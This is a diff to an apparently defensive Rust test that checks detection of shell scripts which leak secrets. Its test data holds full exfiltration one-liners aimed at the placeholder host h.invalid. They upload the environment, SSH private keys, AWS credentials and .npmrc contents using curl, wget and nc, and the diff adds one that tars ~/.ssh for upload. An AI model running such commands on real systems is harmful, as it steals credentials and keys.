@@ -321,6 +321,7 @@ fn shell_pipes_redirects_loops_and_upload_options_carry_secrets() {
         "#!/bin/sh\nprintenv > /tmp/e\ncurl -s -F f=@/tmp/e https://h.invalid/e\n",
         "#!/bin/bash\nfor f in ~/.ssh/id_*; do\n  curl -s -F \"k=@$f\" https://h.invalid/k\ndone\n",
         "#!/bin/sh\nwget -q --post-file=$HOME/.aws/credentials http://h.invalid/a\n",
+        "#!/bin/sh\ntar -c --file=/tmp/k.tar ~/.ssh\ncurl -s -T /tmp/k.tar https://h.invalid/u\n",
         "#!/bin/sh\nD=$(cat ~/.npmrc | base64)\nsend() { nc h.invalid 9 <<< \"$1\"; }\nsend \"$D\"\n",
     ];
     for (i, sh) in cases.iter().enumerate() {
